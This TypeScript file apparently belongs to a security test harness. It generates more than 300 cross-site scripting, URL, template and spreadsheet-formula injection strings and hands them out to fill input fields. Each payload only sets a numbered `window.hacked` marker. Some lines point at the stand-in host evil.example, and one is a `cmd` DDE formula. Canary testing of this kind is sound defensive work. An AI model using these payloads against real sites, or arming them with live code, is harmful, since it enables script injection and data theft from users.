/**
 * Texts that become code, elements or addresses wherever somebody forgot to escape them: 300 and more.
 *
 * Each would set `window.hacked` to its number, or would make an element or an attribute called `hacked`. They are made
 * from what runs, what it has to break out of before, and the disguises that undo themselves.
 */

/** What runs, given the code. */
const RUNS: ((code: string) => string)[] = [
  (code) => `<script hacked>${code}</script>`,
  (code) => `<img hacked src=x onerror=${code}>`,
  (code) => `<svg hacked onload=${code}>`,
  (code) => `<svg><script hacked>${code}</script></svg>`,
  (code) => `<iframe hacked srcdoc="<script>parent.${code}</script>">`,
  (code) => `<input hacked autofocus onfocus=${code}>`,
  (code) => `<details hacked open ontoggle=${code}>`,
  (code) => `<video hacked><source onerror=${code}></video>`,
  (code) => `<a hacked href=javascript:${code}>x</a>`,
];

/** What has to be left first: elements and attributes of every kind that a page may have put the text into. */
const OUT = [
  "",
  '">',
  "'>",
  "`>",
  " x ",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</option></select>",
  "</svg>",
  "</noscript>",
  "</template>",
  "-->",
  "--!>",
  "]]>",
  "</pre></code>",
  "</td></tr></table>",
  "</datalist>",
  "</text></svg>",
  "<!--><",
  "\\\">",
  "\\'>",
];

/** Attributes that run, added to an element whose quotes are left. */
const ATTRIBUTES = ["onclick", "onmouseover", "onfocus autofocus tabindex=0 x", "onpointerenter", "onanimationstart", "onload", "onerror", "onbegin"];
const QUOTES = ['"', "'", "`", " "];

/** Whole texts of their own kind. */
const OTHERS: ((code: string) => string)[] = [
  // Addresses.
  (code) => `javascript:${code}//`,
  (code) => `JaVaScRiPt:${code}//`,
  (code) => ` javascript:${code}//`,
  (code) => `java\tscript:${code}//`,
  (code) => `java&Tab;script:${code}//`,
  (code) => `javascript&colon;${code}//`,
  (code) => `&#106;avascript:${code}//`,
  (code) => `&#x6a;avascript:${code}//`,
  (code) => `\u0001javascript:${code}//`,
  (code) => `javascript://%0a${code}//`,
  (code) => `vbscript:${code}`,
  (code) => `data:text/html,<script hacked>opener.${code}</script>`,
  (code) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' hacked='' onload='${code}'/>`,
  (code) => `//evil.example/?${code}`,
  (code) => `/\\evil.example/?${code}`,
  (code) => `https:evil.example?${code}`,
  (code) => `../../signout?${code}`,
  // Elements that act without code.
  (code) => `<base hacked href=//evil.example/?${code}>`,
  (code) => `<meta hacked http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<link hacked rel=stylesheet href=//evil.example/?${code}>`,
  (code) => `<style hacked>@import "//evil.example/?${code}";*{display:none}</style>`,
  (code) => `<form hacked action=//evil.example/?${code}><button>x`,
  (code) => `<button hacked form=x formaction=javascript:${code}>x`,
  (code) => `<object hacked data=javascript:${code}></object>`,
  (code) => `<embed hacked src=javascript:${code}>`,
  (code) => `<frameset hacked onload=${code}>`,
  (code) => `<plaintext hacked ${code}>`,
  (code) => `<dialog hacked open ${code}>`,
  (code) => `<b hacked style="position:fixed;inset:0;background:url(//evil.example/?${code})">`,
  (code) => `<svg hacked><a xlink:href="javascript:${code}"><text y=20>x</text></a></svg>`,
  (code) => `<svg hacked><animate onbegin=${code} attributeName=x dur=1s></svg>`,
  (code) => `<svg hacked><set attributeName=href to=javascript:${code}></svg>`,
  (code) => `<svg hacked><use href="data:image/svg+xml,<svg id=x onload=${code}>#x"></svg>`,
  (code) => `<svg hacked><foreignObject><img src=x onerror=${code}></foreignObject></svg>`,
  (code) => `<math hacked><mtext></p><img src=x onerror=${code}></mtext></math>`,
  (code) => `<math hacked><a xlink:href=javascript:${code}>x</a></math>`,
  (code) => `<template hacked><script>${code}</script></template>`,
  (code) => `<slot hacked onslotchange=${code}></slot>`,
  (code) => `<audio hacked src=x onerror=${code}>`,
  (code) => `<marquee hacked onstart=${code}>`,
  (code) => `<body hacked onload=${code}>`,
  (code) => `<select hacked autofocus onfocus=${code}>`,
  (code) => `<x hacked onclick=${code} tabindex=0>x</x>`,
  (code) => `<img hacked src=x:x onerror\u000c=${code}>`,
  (code) => `<img/hacked/src=x/onerror=${code}>`,
  (code) => `<IMG HACKED SRC=x ONERROR=${code}>`,
  (code) => `<<script hacked>${code}//<</script>`,
  (code) => `<scr<script>ipt hacked>${code}</scr</script>ipt>`,
  (code) => `<script hacked src=data:text/javascript,${code}></script>`,
  (code) => `<script hacked type=module>${code}</script>`,
  (code) => `<noscript><p title="</noscript><img hacked src=x onerror=${code}>">`,
  (code) => `<svg></p><style><a id="</style><img hacked src=x onerror=${code}>">`,
  // Disguises that undo themselves when a text is decoded once more.
  (code) => `&lt;img hacked src=x onerror=${code}&gt;`,
  (code) => `&#60;img hacked src=x onerror=${code}&#62;`,
  (code) => `%3Cimg hacked src=x onerror=${code}%3E`,
  (code) => `%253Cimg hacked src=x onerror=${code}%253E`,
  (code) => `\\u003cimg hacked src=x onerror=${code}\\u003e`,
  (code) => `\\x3cimg hacked src=x onerror=${code}\\x3e`,
  (code) => `+ADw-img hacked src=x onerror=${code}+AD4-`,
  (code) => `\uff1cimg hacked src=x onerror=${code}\uff1e`,
  (code) => `\u02c2img hacked src=x onerror=${code}\u02c3`,
  (code) => `\u202e>${code}=rorreno x=crs dekcah gmi<`,
  // Code, where a text is put into a script.
  (code) => `';${code};'`,
  (code) => `";${code};"`,
  (code) => `\\";${code};//`,
  (code) => `\`;${code};\``,
  (code) => `\${${code}}`,
  (code) => `\u2028${code}\u2029`,
  (code) => `*/${code}/*`,
  (code) => `</script><script hacked>${code}</script>`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `{% raw %}<img hacked src=x onerror=${code}>{% endraw %}`,
  (code) => `<%= ${code} %>`,
  (code) => `__proto__ constructor ${code}`,
  // What spreadsheets calculate.
  (code) => `=HYPERLINK("//evil.example/?${code}")`,
  (code) => `+cmd|'/C ${code}'!A0`,
  (code) => `-1+1|${code}`,
  (code) => `\t=1+1;${code}`,
];

const MAKERS = [
  ...OUT.flatMap((out) => RUNS.map((run) => (code: string) => out + run(code))),
  ...QUOTES.flatMap((quote) => ATTRIBUTES.map((name) => (code: string) => `x${quote} hacked ${name}=${quote}${code}${quote} y=${quote}`)),
  ...OTHERS,
];

/** Every one, by its number. */
export const ATTACKS: readonly string[] = MAKERS.map((maker, nr) => maker(`hacked=${nr}`));

/** Hands out as many attacks as fit into a text, beginning where the last text ended. */
export class Attacker {
  private next = 0;
  /** What was handed out, by place. */
  readonly said = new Map<string, string[]>();

  /** A text for a place, of at most so many bytes. Without control characters, which names refuse. */
  say(place: string, bytesMax: number): string {
    const parts: string[] = [];
    let bytes = 0;
    for (let left = ATTACKS.length; left > 0; left--, this.next++) {
      const attack = (ATTACKS[this.next % ATTACKS.length] ?? "").replace(/[\u0000-\u001f\u2028\u2029]/g, "").trim();
      bytes += Buffer.byteLength(attack) + 1;
      if (bytes > bytesMax && parts.length > 0) break;
      parts.push(attack);
    }
    const text = parts.join(" ");
    this.said.set(place, [...(this.said.get(place) ?? []), text]);
    return text;
  }
}
